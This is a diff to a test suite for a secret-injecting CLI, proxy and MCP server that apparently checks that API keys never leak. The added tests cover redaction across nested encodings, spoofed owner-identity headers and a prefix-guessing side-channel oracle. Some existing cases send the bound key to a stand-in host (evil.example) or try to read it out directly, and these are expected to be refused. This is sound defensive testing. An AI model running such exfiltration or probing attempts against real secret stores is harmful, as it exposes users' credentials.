@@ -45,6 +45,21 @@ describe('the CLI, the proxy and the MCP server never hand back a value', () => 
         .code,
     ).toBe(0);
     expect((await run(['allowlist', 'add', `http://127.0.0.1:${upstream.port}`], opts())).code).toBe(0);
+    // Query, body and form injection need the owner to name the fields (headers are allowed by default).
+    const places = [
+      '--bearer',
+      '--header',
+      'X-Api-Key',
+      '--query',
+      'api_key',
+      '--body',
+      'auth.token',
+      '--form',
+      'token',
+    ];
+    expect(
+      (await run(['secrets', 'bind', 'API_KEY', `127.0.0.1:${upstream.port}`, ...places], opts())).code,
+    ).toBe(0);
     const list = await run(['secrets', 'list', '--json'], opts());
     expect(JSON.parse(list.stdout).map((s: { name: string }) => s.name)).toEqual([
       'API_KEY',
@@ -75,6 +90,29 @@ describe('the CLI, the proxy and the MCP server never hand back a value', () => 
     expect(JSON.parse(json.stdout)).toMatchObject({ status: 200, redacted: true });
   });
 
+  it('call redacts nested encodings, header names and transfer codings', async () => {
+    // /echo holds JSON in JSON, twice-URL-encoded, \u-escaped, HTML-escaped, MIME base64 and upper-cased echoes.
+    for (const path of ['/echo', '/gzip-gzip', '/gzip-chunked', '/echo-header-name', '/drip']) {
+      const res = await run(
+        ['call', '--url', `${upstream.origin}${path}`, '-i', '--bearer', 'API_KEY'],
+        opts(),
+      );
+      expect(res.code, `${path}: ${res.stderr}`).toBe(0);
+      expect(findLeaks(res.stdout, CANARY), path).toEqual([]);
+    }
+    const named = await run(
+      ['call', '--url', `${upstream.origin}/echo-header-name`, '-i', '--bearer', 'API_KEY', '--json'],
+      opts(),
+    );
+    expect(JSON.parse(named.stdout)).toMatchObject({ status: 200, redacted: true });
+    const refused = await run(
+      ['call', '--url', `${upstream.origin}/unknown-encoding`, '--bearer', 'API_KEY'],
+      opts(),
+    );
+    expect(refused.code).toBe(5);
+    expect(refused.stderr).toContain('UPSTREAM_ENCODING_UNSUPPORTED');
+  });
+
   it('call maps refusals and failures to exit codes with one line', async () => {
     const cases: [string[], number, string][] = [
       [['call', '--url', 'https://evil.example/x', '--bearer', 'API_KEY'], 3, 'DOMAIN_NOT_ALLOWED'],
@@ -90,6 +128,7 @@ describe('the CLI, the proxy and the MCP server never hand back a value', () => 
         'UPSTREAM_RESET',
       ],
       [['call', '--url', `${upstream.origin}/echo`, '--header', 'Bad Name=API_KEY'], 2, 'INVALID_INJECTION'],
+      [['call', '--url', `${upstream.origin}/echo`, '--query', 'other=API_KEY'], 3, 'INJECTION_NOT_ALLOWED'],
       [['call', '--bearer', 'API_KEY'], 2, ''],
       [['secrets', 'get', 'API_KEY'], 3, 'REQUEST_REFUSED'],
       [['env', '--only', 'API_KEY', '--', 'node', '-e', '0'], 3, 'NOT_RELEASABLE'],
@@ -162,6 +201,15 @@ describe('the CLI, the proxy and the MCP server never hand back a value', () => 
     expect(ok.body).toContain('[REDACTED_BY_AGENTSECRETS]');
     expect(ok.headers['x-as-request-id']).toBeDefined();
     expect(ok.trailers['x-as-redacted']).toBe('true');
+    // A caller claiming to be the owner's CLI.
+    const claiming = await send({
+      'x-as-session-token': token,
+      'x-as-target-url': `${upstream.origin}/echo`,
+      'x-as-inject-bearer': 'API_KEY',
+      'x-as-transport': 'cli',
+      'x-as-agent-id': 'owner',
+    });
+    expect(claiming.status).toBe(200);
     const sse = await send({
       'x-as-session-token': token,
       'x-as-target-url': `${upstream.origin}/sse`,
@@ -195,6 +243,51 @@ describe('the CLI, the proxy and the MCP server never hand back a value', () => 
     expect(JSON.parse(blocked.body).error).toMatchObject({ code: 'DOMAIN_NOT_ALLOWED' });
     expect((await send({}, '/health')).body).toBe('{"status":"ok"}');
 
+    // Nested encodings, header names and codings through the proxy.
+    for (const path of ['/echo', '/gzip-chunked', '/gzip-gzip', '/echo-header-name']) {
+      const res = await send({
+        'x-as-session-token': token,
+        'x-as-target-url': `${upstream.origin}${path}`,
+        'x-as-inject-bearer': 'API_KEY',
+      });
+      expect(res.status, path).toBe(200);
+      expect(findLeaks(res.body + JSON.stringify(res.headers), CANARY), path).toEqual([]);
+    }
+
+    // The oracle of the attack review: an echo of `<<` and a guess, then a pause or a dropped connection. What the
+    // reader has during the pause, and in all, must be the same for a true prefix of the canary (raw, base64,
+    // percent-encoded) and a wrong guess of the same length; nothing is injected.
+    const observe = async (guess: string, then: 'end' | 'drop') => {
+      const lead = 'x'.repeat(600);
+      const target = `${upstream.origin}/echo-then-pause?ms=500&then=${then}&guess=${encodeURIComponent(lead + guess)}`;
+      const res = await request(`${base}/proxy`, {
+        headers: { 'x-as-session-token': token, 'x-as-target-url': target },
+      });
+      let received = 0;
+      res.body.on('data', (c: Buffer) => {
+        received += c.length;
+      });
+      const ended = new Promise<void>((resolve) => {
+        res.body.on('end', resolve);
+        res.body.on('error', () => resolve());
+      });
+      await new Promise((r) => setTimeout(r, 300));
+      const duringPause = received;
+      await ended;
+      return [duringPause, received];
+    };
+    const b64 = Buffer.from(CANARY).toString('base64');
+    const pct = [...Buffer.from(CANARY)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
+    for (const [right, wrong] of [
+      [CANARY.slice(0, 17), `${CANARY.slice(0, 16)}#`],
+      [b64.slice(0, 20), `${b64.slice(0, 19)}#`],
+      [pct.slice(0, 30), `${pct.slice(0, 29)}#`],
+    ] as const) {
+      for (const then of ['end', 'drop'] as const) {
+        expect(await observe(right, then), `${right} ${then}`).toEqual(await observe(wrong, then));
+      }
+    }
+
     // call goes through the running proxy
     const viaProxy = await run(['call', '--url', `${upstream.origin}/echo`, '--bearer', 'API_KEY'], opts());
     expect(viaProxy.code).toBe(0);
@@ -205,10 +298,25 @@ describe('the CLI, the proxy and the MCP server never hand back a value', () => 
       .trim()
       .split('\n')
       .map((l) => JSON.parse(l));
+    // The proxy records what it knows (the call came through the proxy) and the caller's word as a claim.
     expect(
-      events.some((e) => e.transport === 'proxy' && e.agent_id === 'leak-suite' && e.status === 'OK'),
+      events.some(
+        (e) =>
+          e.transport === 'proxy' &&
+          e.agent_id === null &&
+          e.claims?.agent_id === 'leak-suite' &&
+          e.status === 'OK',
+      ),
     ).toBe(true);
-    expect(events.some((e) => e.transport === 'cli' && e.status === 'BLOCKED')).toBe(true);
+    expect(
+      events.some((e) => e.transport === 'proxy' && e.claims?.transport === 'cli' && e.status === 'OK'),
+    ).toBe(true);
+    const spoofed = events.find((e) => e.claims?.agent_id === 'owner');
+    expect(spoofed).toMatchObject({
+      transport: 'proxy',
+      agent_id: null,
+      claims: { transport: 'cli', agent_id: 'owner' },
+    });
     const table = await run(['proxy', 'logs', '--last', '5'], opts());
     expect(table.stdout.split('\n')[0]).toMatch(
       /^TIME\s+METHOD\s+TARGET\s+SECRET\s+STATUS\s+HTTP\s+DURATION$/,
@@ -249,6 +357,17 @@ describe('the CLI, the proxy and the MCP server never hand back a value', () => 
       });
       expect(call.isError).toBeFalsy();
       expect(call.structuredContent).toMatchObject({ status: 200, redacted: true });
+      const nested: unknown[] = [];
+      for (const path of ['/gzip-gzip', '/gzip-chunked', '/echo-header-name']) {
+        const res = await client.callTool({
+          name: 'api_call',
+          arguments: { url: `${upstream.origin}${path}`, injections: { bearer: 'API_KEY' } },
+        });
+        expect(res.isError, path).toBeFalsy();
+        expect(res.structuredContent, path).toMatchObject({ status: 200, redacted: true });
+        nested.push(res);
+      }
+      transcript.push(JSON.stringify(nested));
       const refused = await client.callTool({
         name: 'api_call',
         arguments: { url: 'https://evil.example/', injections: { bearer: 'API_KEY' } },
